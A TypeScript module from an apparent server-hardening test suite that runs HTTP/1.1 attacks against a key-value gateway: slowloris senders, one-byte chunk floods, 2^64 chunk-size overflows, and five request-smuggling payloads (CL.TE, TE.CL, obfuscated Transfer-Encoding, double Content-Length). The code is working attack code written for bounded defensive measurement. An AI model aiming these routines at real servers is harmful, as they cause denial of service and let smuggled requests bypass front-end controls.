/**
 * HTTP/1.1 abuse of the client port's gateway: slow senders (slowloris),
 * chunked-encoding abuse, and request smuggling (Content-Length against
 * Transfer-Encoding). Raw sockets, bounded in bytes, connections and time at
 * both scales; every socket is destroyed before an attack resolves.
 *
 * The helpers are exported for the detailed tests (test/http-hostile-http1.test.ts).
 */
import { connect as netConnect, type Socket } from 'node:net';
import { performance } from 'node:perf_hooks';
import type { Attack, AttackFigures, AttackScale, AttackTarget } from '../attack.js';

/** A raw HTTP/1.1 connection that records what the server answered and when it closed. */
export interface RawHttp1 {
  readonly socket: Socket;
  /** Everything the server sent, as latin1. */
  received(): string;
  /** The status codes of the responses seen so far, in order. */
  statuses(): number[];
  /** Milliseconds from open to the server's close; undefined while open. */
  closedAfterMs(): number | undefined;
  /** Writes, waiting for drain; false once the connection is gone. */
  send(bytes: Buffer | string): Promise<boolean>;
  /** Resolves once the server closed the connection or `ms` passed. */
  closedWithin(ms: number): Promise<boolean>;
  close(): void;
}

export function openRawHttp1(target: Pick<AttackTarget, 'host' | 'port'>): Promise<RawHttp1> {
  return new Promise((resolve, reject) => {
    const opened = performance.now();
    const socket = netConnect({ host: target.host, port: target.port, noDelay: true });
    let text = '';
    let closedAt: number | undefined;
    const closeWaiters: Array<() => void> = [];
    socket.on('data', (chunk: Buffer) => {
      // Keep the head of what came: statuses are all this needs.
      if (text.length < 1 << 20) text += chunk.toString('latin1');
    });
    const markClosed = (): void => {
      closedAt ??= performance.now() - opened;
      for (const wake of closeWaiters.splice(0)) wake();
    };
    socket.once('end', markClosed);
    socket.once('close', markClosed);
    socket.on('error', markClosed);
    socket.once('connect', () => {
      socket.off('error', reject);
      resolve({
        socket,
        received: () => text,
        statuses: () => [...text.matchAll(/HTTP\/1\.[01] (\d{3})/g)].map((match) => Number(match[1])),
        closedAfterMs: () => (closedAt === undefined ? undefined : Math.round(closedAt)),
        send: (bytes) =>
          new Promise<boolean>((done) => {
            if (closedAt !== undefined || socket.destroyed) return done(false);
            if (socket.write(bytes)) return done(true);
            const onDrain = (): void => {
              socket.off('close', onClose);
              done(true);
            };
            const onClose = (): void => {
              socket.off('drain', onDrain);
              done(false);
            };
            socket.once('drain', onDrain);
            socket.once('close', onClose);
          }),
        closedWithin: (ms) =>
          closedAt !== undefined
            ? Promise.resolve(true)
            : new Promise<boolean>((done) => {
                const timer = setTimeout(() => done(false), ms);
                closeWaiters.push(() => {
                  clearTimeout(timer);
                  done(true);
                });
              }),
        close: () => socket.destroy(),
      });
    });
    socket.once('error', reject);
  });
}

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** A chunked body's wire bytes: chunks of one space each (JSON whitespace), then "{}" and the last chunk. */
export function oneByteChunks(): { chunk: Buffer; tail: Buffer } {
  return { chunk: Buffer.from('1\r\n \r\n'), tail: Buffer.from(`2\r\n{}\r\n0\r\n\r\n`) };
}

export const chunkedRangeHead = (host: string): string => `POST /v3/kv/range HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`;

/**
 * Sends one gateway Range whose body is `chunks` chunks of one byte; waits
 * (at most `answerWaitMs`) for the answer. Returns what the server did.
 */
export async function sendOneByteChunks(target: AttackTarget, chunks: number, answerWaitMs: number): Promise<{ chunksSent: number; status: number | 'none'; serverClosed: boolean; elapsedMs: number }> {
  const connection = await openRawHttp1(target);
  const started = performance.now();
  const perWrite = 16_384;
  const { chunk, tail } = oneByteChunks();
  const batch = Buffer.concat(new Array<Buffer>(perWrite).fill(chunk));
  let sent = 0;
  try {
    if (!(await connection.send(chunkedRangeHead(target.endpoint)))) return { chunksSent: 0, status: 'none', serverClosed: true, elapsedMs: 0 };
    while (sent < chunks) {
      const count = Math.min(perWrite, chunks - sent);
      if (!(await connection.send(count === perWrite ? batch : batch.subarray(0, count * chunk.length)))) break;
      sent += count;
      // The server may answer before the body ends (and close): stop sending then.
      if (connection.statuses().length > 0) break;
    }
    if (sent === chunks) await connection.send(tail);
    const deadline = performance.now() + answerWaitMs;
    while (connection.statuses().length === 0 && connection.closedAfterMs() === undefined && performance.now() < deadline) await sleep(20);
    return { chunksSent: sent, status: connection.statuses()[0] ?? 'none', serverClosed: connection.closedAfterMs() !== undefined, elapsedMs: Math.round(performance.now() - started) };
  } finally {
    connection.close();
  }
}

async function chunkedOneByte(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
  const connections = 4;
  const chunks = scale === 'short' ? 200_000 : 3_000_000;
  const results = await Promise.all(Array.from({ length: connections }, () => sendOneByteChunks(target, chunks, 30_000)));
  return {
    connections,
    chunksPerConnection: chunks,
    chunksSentMax: Math.max(...results.map((result) => result.chunksSent)),
    statuses: results.map((result) => result.status).join(','),
    serverClosed: results.filter((result) => result.serverClosed).length,
    elapsedMsMax: Math.max(...results.map((result) => result.elapsedMs)),
  };
}

/**
 * A chunk that claims 2^64-1 bytes (and, with `then`, some body after it);
 * waits at most `waitMs` for the server to answer or close.
 */
export async function sendHugeChunkSize(target: AttackTarget, waitMs: number, size = 'FFFFFFFFFFFFFFFF'): Promise<{ status: number | 'none'; closedAfterMs: number | 'none'; waitedMs: number }> {
  const connection = await openRawHttp1(target);
  const started = performance.now();
  try {
    await connection.send(`${chunkedRangeHead(target.endpoint)}${size}\r\n{}`);
    const deadline = started + waitMs;
    while (connection.statuses().length === 0 && connection.closedAfterMs() === undefined && performance.now() < deadline) await sleep(20);
    return { status: connection.statuses()[0] ?? 'none', closedAfterMs: connection.closedAfterMs() ?? 'none', waitedMs: Math.round(performance.now() - started) };
  } finally {
    connection.close();
  }
}

async function chunkSizeOverflow(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
  const waitMs = scale === 'short' ? 5_000 : 120_000;
  const [maximal, overflowing] = await Promise.all([sendHugeChunkSize(target, waitMs), sendHugeChunkSize(target, waitMs, '10000000000000000')]);
  return {
    maxChunkSizeStatus: maximal.status,
    maxChunkSizeClosedAfterMs: maximal.closedAfterMs,
    overflowChunkSizeStatus: overflowing.status,
    overflowChunkSizeClosedAfterMs: overflowing.closedAfterMs,
    waitedMs: Math.max(maximal.waitedMs, overflowing.waitedMs),
  };
}

/**
 * `connections` slow senders: each sends a request line, then its headers
 * (`body` false) or its body (`body` true) one byte every `byteIntervalMs`,
 * for at most `holdMs`. Counts the connections the server closed and how soon.
 */
export async function slowloris(target: AttackTarget, connections: number, holdMs: number, byteIntervalMs: number, body: boolean): Promise<AttackFigures> {
  const opened: RawHttp1[] = [];
  const started = performance.now();
  try {
    for (let i = 0; i < connections; i += 100) {
      const batch = await Promise.allSettled(Array.from({ length: Math.min(100, connections - i) }, () => openRawHttp1(target)));
      for (const result of batch) if (result.status === 'fulfilled') opened.push(result.value);
    }
    const head = body ? `POST /v3/kv/range HTTP/1.1\r\nHost: ${target.endpoint}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n` : `POST /v3/kv/range HTTP/1.1\r\nHost: ${target.endpoint}\r\n`;
    await Promise.all(opened.map((connection) => connection.send(head)));
    const trickle = body ? ' ' : 'X-Slow: a\r\n';
    for (let sent = 0; performance.now() - started < holdMs; sent++) {
      const byte = trickle[sent % trickle.length]!;
      for (const connection of opened) if (connection.closedAfterMs() === undefined) void connection.send(byte);
      if (opened.every((connection) => connection.closedAfterMs() !== undefined)) break;
      await sleep(byteIntervalMs);
    }
    const closeTimes = opened.map((connection) => connection.closedAfterMs()).filter((ms): ms is number => ms !== undefined).sort((a, b) => a - b);
    return {
      connections: opened.length,
      holdMs,
      closedByServer: closeTimes.length,
      medianCloseAfterMs: closeTimes[Math.floor(closeTimes.length / 2)] ?? 'none',
      statuses: [...new Set(opened.flatMap((connection) => connection.statuses()))].join(',') || 'none',
    };
  } finally {
    for (const connection of opened) connection.close();
  }
}

/** Request-smuggling shapes: each must get at most one answer, and never one to the smuggled request. */
export const smugglingCases: ReadonlyArray<{ readonly name: string; readonly request: (host: string) => string }> = [
  {
    name: 'cl-te',
    request: (host) => `POST /v3/kv/range HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /version HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
  },
  {
    name: 'te-cl',
    request: (host) => `POST /v3/kv/range HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\nContent-Length: 40\r\n\r\n29\r\nGET /version HTTP/1.1\r\nHost: ${host}\r\n\r\n\r\n0\r\n\r\n`,
  },
  {
    name: 'te-te-obfuscated',
    request: (host) => `POST /v3/kv/range HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET /version HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
  },
  {
    name: 'te-space-before-colon',
    request: (host) => `POST /v3/kv/range HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET /version HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
  },
  {
    name: 'double-content-length',
    request: (host) => `POST /v3/kv/range HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}GET /version HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
  },
];

/** Sends one smuggling case; returns the statuses answered within `waitMs`. */
export async function sendSmuggling(target: AttackTarget, request: string, waitMs: number): Promise<number[]> {
  const connection = await openRawHttp1(target);
  try {
    await connection.send(request);
    await connection.closedWithin(waitMs);
    return connection.statuses();
  } finally {
    connection.close();
  }
}

async function smuggling(target: AttackTarget, scale: AttackScale): Promise<AttackFigures> {
  const rounds = scale === 'short' ? 1 : 200;
  const figures: AttackFigures = {};
  for (const { name, request } of smugglingCases) {
    const seen = new Set<string>();
    for (let round = 0; round < rounds; round++) seen.add((await sendSmuggling(target, request(target.endpoint), 500)).join('+') || 'none');
    figures[name] = [...seen].join(' | ');
  }
  return figures;
}

export const attacks: readonly Attack[] = [
  {
    name: 'http1-slowloris-headers',
    description: 'connections that send their headers a byte every 500 ms (200 for 15 s / 1,000 for 90 s)',
    run: (target, scale) => (scale === 'short' ? slowloris(target, 200, 15_000, 500, false) : slowloris(target, 1_000, 90_000, 500, false)),
  },
  {
    name: 'http1-slowloris-body',
    description: 'gateway requests that send their body a byte every 500 ms (200 for 15 s / 1,000 for 90 s)',
    run: (target, scale) => (scale === 'short' ? slowloris(target, 200, 15_000, 500, true) : slowloris(target, 1_000, 90_000, 500, true)),
  },
  { name: 'http1-chunked-one-byte', description: 'gateway bodies of 1-byte chunks on 4 connections (200,000 / 3,000,000 chunks each)', run: chunkedOneByte },
  { name: 'http1-chunk-size-overflow', description: 'a chunk size of FFFFFFFFFFFFFFFF (2^64-1) and of 2^64, then silence (waits 5 s / 120 s)', run: chunkSizeOverflow },
  { name: 'http1-smuggling', description: 'Content-Length against Transfer-Encoding (CL.TE, TE.CL, obfuscated TE, double CL), once / 200 times each', run: smuggling },
];

/** The attack the issue measured (finding 3), for runners that take one attack a module. */
export const attack: Attack = attacks[2]!;
